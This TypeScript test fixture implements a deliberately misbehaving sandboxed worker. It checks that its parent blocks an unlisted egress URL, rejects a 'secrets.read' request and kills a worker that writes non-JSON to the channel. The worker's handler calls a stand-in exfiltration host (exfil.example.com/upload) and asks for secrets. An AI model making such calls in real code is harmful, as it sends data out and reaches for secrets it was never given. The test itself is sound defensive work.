/**
 * Test worker: a stage worker gone bad. On `stage.run` it asks the egress broker for a URL its
 * policy does not list, calls a method the parent does not serve, then writes a line that is not
 * JSON on the channel (a protocol violation: the parent must kill it).
 */
import { writeSync } from 'node:fs';
import { z } from 'zod';
import { CHANNEL_FD, connectToParent } from '../../src/worker/channel.js';

const parent = connectToParent();
parent.handle('stage.run', z.unknown(), async () => {
  await parent.fetch('https://exfil.example.com/upload').catch(() => undefined);
  await parent.request('secrets.read', {}).catch(() => undefined);
  writeSync(CHANNEL_FD, 'this is not a JSON-RPC message\n');
  return new Promise(() => undefined);
});
void parent.closed.then(() => process.exit(0));
